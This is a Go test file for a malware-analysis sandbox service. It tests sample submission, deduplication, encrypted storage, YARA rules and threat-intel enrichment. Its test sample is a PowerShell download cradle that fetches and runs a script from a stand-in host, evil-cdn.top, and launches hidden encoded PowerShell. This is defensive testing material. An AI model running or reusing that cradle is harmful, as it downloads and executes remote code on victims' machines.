package lab_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/time/rate"

	"github.com/eventsec/eventsec/internal/enrich/external"
	"github.com/eventsec/eventsec/internal/event"
	"github.com/eventsec/eventsec/internal/eventstore/duckdb"
	"github.com/eventsec/eventsec/internal/live"
	"github.com/eventsec/eventsec/internal/sandbox"
	"github.com/eventsec/eventsec/internal/sandbox/lab"
	"github.com/eventsec/eventsec/internal/store"
	"github.com/eventsec/eventsec/internal/store/sqlite"
)

// dropper is a small PowerShell download cradle: a real script the
// analyser flags.
const dropper = "$u='http://evil-cdn.top/stage2.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n" +
	"Start-Process powershell -ArgumentList '-nop -w hidden -enc SQBFAFgA' -WindowStyle Hidden\r\n"

type env struct {
	t       *testing.T
	st      store.Store
	dataDir string
	hub     *live.Hub
	org     string
	actor   lab.Actor
}

func newEnv(t *testing.T) *env {
	t.Helper()
	st, err := sqlite.Open(t.Context(), filepath.Join(t.TempDir(), "state.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	if err := st.Orgs().Create(t.Context(), store.Org{ID: "o1", Name: "Org 1", CreatedAt: time.Now()}); err != nil {
		t.Fatal(err)
	}
	if err := st.Orgs().Create(t.Context(), store.Org{ID: "o2", Name: "Org 2", CreatedAt: time.Now()}); err != nil {
		t.Fatal(err)
	}
	return &env{t: t, st: st, dataDir: t.TempDir(), hub: live.NewHub(nil), org: "o1", actor: lab.Actor{UserID: "u1", Email: "u1@a.test"}}
}

// service builds a service over the env's store and data dir; with run,
// its workers run until the test ends (or the returned stop is called).
func (e *env) service(run bool, mod ...func(*lab.Options)) (*lab.Service, func()) {
	e.t.Helper()
	o := lab.Options{Store: e.st, Hub: e.hub, SampleDir: filepath.Join(e.dataDir, "blobs", "samples"), Workers: 2}
	for _, m := range mod {
		m(&o)
	}
	svc, err := lab.New(o)
	if err != nil {
		e.t.Fatal(err)
	}
	stop := func() {}
	if run {
		ctx, cancel := context.WithCancel(context.Background())
		done := make(chan struct{})
		go func() { defer close(done); _ = svc.Run(ctx) }()
		stop = func() { cancel(); <-done }
		e.t.Cleanup(stop)
	}
	return svc, stop
}

// wait polls until the submission is done or failed.
func wait(t *testing.T, svc *lab.Service, org, id string) lab.Submission {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		sub, err := svc.Get(context.Background(), org, id)
		if err != nil {
			t.Fatal(err)
		}
		if sub.Status == store.SandboxDone || sub.Status == store.SandboxFailed {
			return sub
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("submission %s not finished in time", id)
	return lab.Submission{}
}

func report(t *testing.T, sub lab.Submission) sandbox.Report {
	t.Helper()
	var rep sandbox.Report
	if err := json.Unmarshal(sub.Report, &rep); err != nil {
		t.Fatalf("report: %v", err)
	}
	return rep
}

func TestSubmitFileToReport(t *testing.T) {
	e := newEnv(t)
	sub := e.hub.Subscribe(e.org)
	defer sub.Close()
	sub.Set([]string{live.ChannelThreats}, nil)
	svc, _ := e.service(true)
	ctx := context.Background()
	got, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: `C:\Users\bob\Downloads\invoice.ps1`, Reader: strings.NewReader(dropper), Source: "upload"})
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte(dropper))
	if got.Status != store.SandboxQueued || got.Target != "invoice.ps1" || got.SHA256 != hex.EncodeToString(sum[:]) || got.Duplicate {
		t.Fatalf("submitted: %+v", got)
	}
	done := wait(t, svc, e.org, got.ID)
	if done.Status != store.SandboxDone || done.Progress != 100 || done.Verdict == "" || done.Verdict == "clean" || done.Score == 0 {
		t.Fatalf("done: %+v", done)
	}
	rep := report(t, done)
	if rep.Kind != sandbox.KindFile || rep.Hashes.SHA256 != got.SHA256 || rep.Script == nil || len(rep.Reasons) == 0 {
		t.Fatalf("report: %+v", rep)
	}
	found := false
	for _, in := range rep.Indicators {
		if strings.Contains(in.Value, "evil-cdn.top") {
			found = true
		}
	}
	if !found {
		t.Errorf("no evil-cdn.top indicator: %+v", rep.Indicators)
	}
	// Progress and completion went out on the threats channel.
	var types []string
	timeout := time.After(5 * time.Second)
	for !contains(types, lab.EventDone) {
		select {
		case b := <-sub.C:
			var m live.Message
			if err := json.Unmarshal(b, &m); err != nil {
				t.Fatal(err)
			}
			if m.Channel != live.ChannelThreats {
				t.Fatalf("channel %q", m.Channel)
			}
			types = append(types, m.Type)
		case <-timeout:
			t.Fatalf("live messages: %v", types)
		}
	}
	if types[0] != lab.EventQueued || !contains(types, lab.EventProgress) {
		t.Errorf("live messages: %v", types)
	}
	// The list shows it without the report; filters apply.
	list, total, err := svc.List(ctx, e.org, store.SandboxFilter{Verdict: done.Verdict})
	if err != nil || total != 1 || list[0].ID != got.ID || list[0].Report != nil {
		t.Fatalf("list: %v %d %+v", err, total, list)
	}
	if _, total, _ := svc.List(ctx, e.org, store.SandboxFilter{Kind: "url"}); total != 0 {
		t.Errorf("kind filter: %d", total)
	}
	// Another org sees nothing.
	if _, err := svc.Get(ctx, "o2", got.ID); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("other org: %v", err)
	}
}

func TestDedupeByHash(t *testing.T) {
	e := newEnv(t)
	svc, _ := e.service(true)
	ctx := context.Background()
	first, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper)})
	if err != nil {
		t.Fatal(err)
	}
	wait(t, svc, e.org, first.ID)
	again, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "renamed.txt", Reader: strings.NewReader(dropper)})
	if err != nil || again.ID != first.ID || !again.Duplicate || again.Status != store.SandboxDone {
		t.Fatalf("resubmit: %v %+v", err, again)
	}
	// Reanalyze makes a new analysis; another org gets its own.
	fresh, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper), Reanalyze: true})
	if err != nil || fresh.ID == first.ID || fresh.Duplicate {
		t.Fatalf("reanalyze: %v %+v", err, fresh)
	}
	other, err := svc.SubmitFile(ctx, "o2", "endpoint:agent-7", "a.ps1", strings.NewReader(dropper))
	if err != nil || other.ID == first.ID || other.Duplicate || other.Source != "endpoint" || other.SubmittedBy != "endpoint:agent-7" {
		t.Fatalf("other org: %v %+v", err, other)
	}
	wait(t, svc, e.org, fresh.ID)
	wait(t, svc, "o2", other.ID)
	// Deleting one org's submissions keeps the sample the other still has.
	for _, id := range []string{first.ID, fresh.ID} {
		if err := svc.Delete(ctx, e.org, e.actor, id); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := svc.Download(ctx, "o2", other.ID, &buf); err != nil {
		t.Fatalf("sample gone with the other org's delete: %v", err)
	}
	if err := svc.Delete(ctx, "o2", e.actor, other.ID); err != nil {
		t.Fatal(err)
	}
	if n := countFiles(t, filepath.Join(e.dataDir, "blobs", "samples")); n != 0 {
		t.Errorf("%d sample files left after the last delete", n)
	}
	// The audit log has the submissions and deletions.
	entries, err := e.st.Audit().List(ctx, e.org, store.AuditFilter{Action: "sandbox.", Limit: 50})
	if err != nil || len(entries) != 4 {
		t.Errorf("audit: %v %d", err, len(entries))
	}
}

func countFiles(t *testing.T, dir string) int {
	n := 0
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			n++
		}
		return nil
	})
	return n
}

func TestValueSubmissions(t *testing.T) {
	e := newEnv(t)
	svc, _ := e.service(true)
	ctx := context.Background()
	for _, tc := range []struct{ kind, value string }{
		{lab.KindURL, "hxxp://paypa1-login[.]com/verify?acct=1"},
		{lab.KindDomain, "xn--pypal-4ve.com"},
		{lab.KindIP, "203.0.113.5"},
		{lab.KindHash, strings.Repeat("ab", 32)},
	} {
		got, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: tc.kind, Value: tc.value})
		if err != nil {
			t.Fatalf("%s: %v", tc.kind, err)
		}
		done := wait(t, svc, e.org, got.ID)
		if done.Status != store.SandboxDone || string(report(t, done).Kind) != tc.kind {
			t.Errorf("%s: %+v", tc.kind, done)
		}
	}
	for _, tc := range []struct {
		in    lab.Input
		field string
	}{
		{lab.Input{Kind: "exe", Value: "x"}, "kind"},
		{lab.Input{Value: "x"}, "kind"},
		{lab.Input{Kind: lab.KindIP, Value: "999.1.1.1"}, "value"},
		{lab.Input{Kind: lab.KindHash, Value: "xyz"}, "value"},
		{lab.Input{Kind: lab.KindDomain, Value: "  "}, "value"},
		{lab.Input{Kind: lab.KindFile}, "file"},
		{lab.Input{Kind: lab.KindFile, Reader: strings.NewReader("")}, "file"},
	} {
		_, err := svc.Submit(ctx, e.org, e.actor, tc.in)
		var fe *lab.FieldError
		if !errors.As(err, &fe) || fe.Field != tc.field {
			t.Errorf("%+v: %v, want a field error on %s", tc.in, err, tc.field)
		}
	}
}

func TestSizeLimit(t *testing.T) {
	e := newEnv(t)
	svc, _ := e.service(false, func(o *lab.Options) { o.MaxSampleSize = 1024 })
	_, err := svc.Submit(context.Background(), e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "big.bin", Reader: bytes.NewReader(make([]byte, 1025))})
	var fe *lab.FieldError
	if !errors.As(err, &fe) || fe.Field != "file" || !errors.Is(fe.Details.(error), lab.ErrTooLarge) {
		t.Fatalf("too large: %v", err)
	}
	if _, err := svc.Submit(context.Background(), e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "ok.bin", Reader: bytes.NewReader(make([]byte, 1024))}); err != nil {
		t.Fatalf("at the limit: %v", err)
	}
}

// TestRestartResumes: submissions queued (or cut short while running) by
// one service are analysed by the next one over the same store.
func TestRestartResumes(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	first, _ := e.service(false)
	a, err := first.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper)})
	if err != nil {
		t.Fatal(err)
	}
	b, err := first.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindDomain, Value: "example.com"})
	if err != nil {
		t.Fatal(err)
	}
	// b was picked up and the process died mid-analysis.
	raw, err := e.st.Sandbox().GetSubmission(ctx, e.org, b.ID)
	if err != nil {
		t.Fatal(err)
	}
	raw.Status, raw.Stage = store.SandboxRunning, "strings"
	if err := e.st.Sandbox().UpdateSubmission(ctx, raw); err != nil {
		t.Fatal(err)
	}
	second, _ := e.service(true)
	for _, id := range []string{a.ID, b.ID} {
		if got := wait(t, second, e.org, id); got.Status != store.SandboxDone {
			t.Errorf("%s after restart: %+v", id, got)
		}
	}
}

func TestEncryptionAtRest(t *testing.T) {
	e := newEnv(t)
	keyFile := filepath.Join(e.dataDir, "sandbox-samples.key")
	svc, _ := e.service(true, func(o *lab.Options) { o.KeyFile = keyFile })
	ctx := context.Background()
	got, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper)})
	if err != nil {
		t.Fatal(err)
	}
	if done := wait(t, svc, e.org, got.ID); done.Status != store.SandboxDone {
		t.Fatalf("%+v", done)
	}
	if !svc.Info().EncryptSamples {
		t.Error("info says not encrypted")
	}
	key, err := os.ReadFile(keyFile)
	if err != nil || len(key) != 32 {
		t.Fatalf("key: %v %d", err, len(key))
	}
	if fi, _ := os.Stat(keyFile); fi.Mode().Perm() != 0o600 {
		t.Errorf("key mode %v", fi.Mode())
	}
	dir := filepath.Join(e.dataDir, "blobs", "samples")
	path := filepath.Join(dir, got.SHA256[:2], got.SHA256[2:4], got.SHA256+".enc")
	body, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(body, []byte("DownloadString")) {
		t.Error("sample stored in the clear")
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Errorf("sample mode %v", fi.Mode())
	}
	// Round trip through the download.
	var buf bytes.Buffer
	if _, err := svc.Download(ctx, e.org, got.ID, &buf); err != nil {
		t.Fatal(err)
	}
	_, data, err := lab.ReadEncryptedZip(bytes.NewReader(buf.Bytes()), int64(buf.Len()), lab.ZipPassword)
	if err != nil || string(data) != dropper {
		t.Fatalf("download: %v %q", err, data)
	}
	// A flipped byte is detected, not analysed.
	body[len(body)-1] ^= 1
	if err := os.WriteFile(path, body, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Download(ctx, e.org, got.ID, io.Discard); err == nil {
		t.Error("tampered sample read back")
	}
	// A service without the key cannot read an encrypted sample.
	plain, _ := e.service(false)
	if _, err := plain.Download(ctx, e.org, got.ID, io.Discard); err == nil {
		t.Error("encrypted sample read without the key")
	}
}

func TestSamplesInTheClearAreNotExecutable(t *testing.T) {
	e := newEnv(t)
	svc, _ := e.service(false)
	got, err := svc.Submit(context.Background(), e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.sh", Reader: strings.NewReader("#!/bin/sh\necho hi\n")})
	if err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(filepath.Join(e.dataDir, "blobs", "samples", got.SHA256[:2], got.SHA256[2:4], got.SHA256))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("mode: %v %v", err, fi)
	}
}

// TestZipCryptoWithUnzip: the download opens with Info-ZIP's unzip and
// the password "infected", and not with another password.
func TestZipCryptoWithUnzip(t *testing.T) {
	data := []byte(strings.Repeat(dropper, 50))
	var buf bytes.Buffer
	if err := lab.WriteEncryptedZip(&buf, "invoice.ps1", data, lab.ZipPassword, time.Date(2026, 3, 4, 5, 6, 8, 0, time.UTC)); err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(buf.Bytes(), []byte("DownloadString")) {
		t.Fatal("archive holds the sample in the clear")
	}
	name, got, err := lab.ReadEncryptedZip(bytes.NewReader(buf.Bytes()), int64(buf.Len()), "infected")
	if err != nil || name != "invoice.ps1" || !bytes.Equal(got, data) {
		t.Fatalf("own reader: %v %q", err, name)
	}
	if _, _, err := lab.ReadEncryptedZip(bytes.NewReader(buf.Bytes()), int64(buf.Len()), "wrong"); err == nil {
		t.Error("wrong password accepted")
	}
	unzip, err := exec.LookPath("unzip")
	if err != nil {
		t.Skip("unzip is not installed; the hand-written reader above checked the archive")
	}
	dir := t.TempDir()
	zipPath := filepath.Join(dir, "sample.zip")
	if err := os.WriteFile(zipPath, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(unzip, "-p", "-P", "infected", zipPath).Output()
	if err != nil || !bytes.Equal(out, data) {
		t.Fatalf("unzip -P infected: %v (%d bytes)", err, len(out))
	}
	if err := exec.Command(unzip, "-p", "-P", "nope", zipPath).Run(); err == nil {
		t.Error("unzip accepted a wrong password")
	}
}

func TestYARARules(t *testing.T) {
	e := newEnv(t)
	svc, _ := e.service(true)
	ctx := context.Background()
	str := func(s string) *string { return &s }
	src := "rule Cradle {\n  meta:\n    score = 80\n  strings:\n    $a = \"DownloadString\"\n  condition:\n    $a\n}\n"
	r, err := svc.CreateRule(ctx, e.org, e.actor, lab.RuleInput{Name: str("cradle"), Source: str(src)})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Enabled {
		t.Error("new rule disabled")
	}
	_, err = svc.CreateRule(ctx, e.org, e.actor, lab.RuleInput{Name: str("cradle"), Source: str(src)})
	if !errors.Is(err, store.ErrConflict) && !isField(err, "source") {
		t.Errorf("duplicate name: %v", err)
	}
	if _, err := svc.CreateRule(ctx, e.org, e.actor, lab.RuleInput{Name: str("x")}); !isField(err, "source") {
		t.Errorf("no source: %v", err)
	}
	got, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper)})
	if err != nil {
		t.Fatal(err)
	}
	rep := report(t, wait(t, svc, e.org, got.ID))
	if !sandbox.YARAEnabled() {
		if rep.YARA == nil || rep.YARA.Enabled || rep.YARA.Message != "YARA disabled: built without the yara tag" {
			t.Fatalf("disabled build: %+v", rep.YARA)
		}
		if svc.Info().YARAMessage != "YARA disabled: built without the yara tag" {
			t.Error(svc.Info())
		}
		return
	}
	if rep.YARA == nil || len(rep.YARA.Matches) != 1 || rep.YARA.Matches[0].Rule != "Cradle" {
		t.Fatalf("yara: %+v", rep.YARA)
	}
	// Compile errors carry the line.
	bad := "rule Bad {\n  strings:\n    $a = \"x\"\n  condition:\n    $b\n}\n"
	_, err = svc.CreateRule(ctx, e.org, e.actor, lab.RuleInput{Name: str("bad"), Source: str(bad)})
	var fe *lab.FieldError
	if !errors.As(err, &fe) || fe.Field != "source" || fe.Line != 6 || !strings.Contains(fe.Msg, "$b") {
		t.Fatalf("compile error: %v", err)
	}
	// The same rule identifier in two enabled rules is refused.
	_, err = svc.CreateRule(ctx, e.org, e.actor, lab.RuleInput{Name: str("again"), Source: str(src)})
	if !isField(err, "source") {
		t.Fatalf("duplicate identifier: %v", err)
	}
	// Disabled rules are not applied.
	off := false
	if _, err := svc.UpdateRule(ctx, e.org, e.actor, r.ID, lab.RuleInput{Enabled: &off}); err != nil {
		t.Fatal(err)
	}
	again, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper), Reanalyze: true})
	if err != nil {
		t.Fatal(err)
	}
	if rep := report(t, wait(t, svc, e.org, again.ID)); rep.YARA != nil && len(rep.YARA.Matches) > 0 {
		t.Errorf("disabled rule matched: %+v", rep.YARA)
	}
}

func isField(err error, field string) bool {
	var fe *lab.FieldError
	return errors.As(err, &fe) && fe.Field == field
}

// TestExternalEnrichment: an org that entered a key gets the service's
// verdict in its reports, the key is never shown, and failures say why.
func TestExternalEnrichment(t *testing.T) {
	var hits atomic.Int64
	vt := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if r.Header.Get("x-apikey") != "vt-key-123456789" {
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = io.WriteString(w, `{"error":{"code":"WrongCredentialsError"}}`)
			return
		}
		_, _ = io.WriteString(w, `{"data":{"attributes":{"last_analysis_stats":{"malicious":40,"suspicious":1,"harmless":0,"undetected":20}}}}`)
	}))
	defer vt.Close()
	e := newEnv(t)
	svc, _ := e.service(true, func(o *lab.Options) { o.External = external.Config{Rate: rate.Inf} })
	ctx := context.Background()
	if v := svc.Check(ctx, e.org, lab.KindIP, "203.0.113.5"); len(v) != 0 {
		t.Fatalf("off by default: %+v", v)
	}
	key, base := "vt-key-123456789", vt.URL
	view, err := svc.UpdateSettings(ctx, e.org, e.actor, map[string]lab.ServiceUpdate{"virustotal": {APIKey: &key, BaseURL: &base}})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(view)
	if bytes.Contains(b, []byte(key)) || view.Services[0].KeyHint != "••••6789" || !view.Services[0].Enabled {
		t.Fatalf("view: %s", b)
	}
	got, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper)})
	if err != nil {
		t.Fatal(err)
	}
	done := wait(t, svc, e.org, got.ID)
	if len(done.External) != 1 || done.External[0].Source != "virustotal" || done.External[0].Status != external.StatusMalicious {
		t.Fatalf("external: %+v", done.External)
	}
	res, err := svc.TestService(ctx, e.org, "virustotal", "")
	if err != nil || !res.OK {
		t.Fatalf("test: %v %+v", err, res)
	}
	res, err = svc.TestService(ctx, e.org, "virustotal", "wrong-key")
	if err != nil || res.OK || !strings.HasPrefix(res.Message, "unauthorized") {
		t.Fatalf("test wrong key: %v %+v", err, res)
	}
	v := svc.Check(ctx, e.org, lab.KindURL, "http://evil.example/")
	if len(v) != 1 || v[0].Status != external.StatusMalicious {
		t.Fatalf("check: %+v", v)
	}
	if _, err := svc.UpdateSettings(ctx, e.org, e.actor, map[string]lab.ServiceUpdate{"nope": {}}); !isField(err, "services.nope") {
		t.Errorf("unknown service: %v", err)
	}
	on := true
	if _, err := svc.UpdateSettings(ctx, e.org, e.actor, map[string]lab.ServiceUpdate{"otx": {Enabled: &on}}); !isField(err, "services.otx.api_key") {
		t.Errorf("enable without key: %v", err)
	}
	// The audit log never holds the key.
	entries, _ := e.st.Audit().List(ctx, e.org, store.AuditFilter{Limit: 50})
	for _, en := range entries {
		if strings.Contains(en.Summary, key) {
			t.Errorf("audit holds the key: %+v", en)
		}
	}
}

func TestSeenOnEndpoints(t *testing.T) {
	e := newEnv(t)
	events, err := duckdb.Open(t.Context(), duckdb.Options{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer events.Close()
	svc, _ := e.service(true, func(o *lab.Options) { o.Events = events })
	ctx := context.Background()
	got, err := svc.Submit(ctx, e.org, e.actor, lab.Input{Kind: lab.KindFile, Name: "a.ps1", Reader: strings.NewReader(dropper)})
	if err != nil {
		t.Fatal(err)
	}
	done := wait(t, svc, e.org, got.ID)
	md5 := report(t, done).Hashes.MD5
	base := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	mk := func(id, org, host string, at time.Time, f event.Fields) event.Event {
		f["host.name"] = host
		f["message"] = "process started"
		return event.Event{ID: id, OrgID: org, Timestamp: at, Ingested: at, Input: "test", Fields: f}
	}
	evs := []event.Event{
		mk("e1", e.org, "ws-01", base, event.Fields{"process.hash.sha256": got.SHA256}),
		mk("e2", e.org, "ws-01", base.Add(time.Hour), event.Fields{"file.hash.sha256": got.SHA256}),
		mk("e3", e.org, "srv-02", base.Add(2*time.Hour), event.Fields{"file.hash.md5": md5}),
		mk("e4", e.org, "ws-03", base, event.Fields{"file.hash.sha256": strings.Repeat("0", 64)}),
		mk("e5", "o2", "other-org", base, event.Fields{"file.hash.sha256": got.SHA256}),
	}
	if _, err := events.Append(ctx, evs); err != nil {
		t.Fatal(err)
	}
	seen, err := svc.SeenOn(ctx, e.org, got.ID)
	if err != nil {
		t.Fatal(err)
	}
	if seen.Total != 3 || len(seen.Hosts) != 2 {
		t.Fatalf("seen: %+v", seen)
	}
	byHost := map[string]lab.HostSighting{}
	for _, h := range seen.Hosts {
		byHost[h.Host] = h
	}
	ws := byHost["ws-01"]
	if ws.Events != 2 || !ws.FirstSeen.Equal(base) || !ws.LastSeen.Equal(base.Add(time.Hour)) || len(ws.Fields) != 2 {
		t.Errorf("ws-01: %+v", ws)
	}
	if srv := byHost["srv-02"]; srv.Events != 1 || len(srv.Fields) != 1 || srv.Fields[0] != "file.hash.md5" {
		t.Errorf("srv-02: %+v", srv)
	}
}

func contains(list []string, v string) bool {
	for _, x := range list {
		if x == v {
			return true
		}
	}
	return false
}
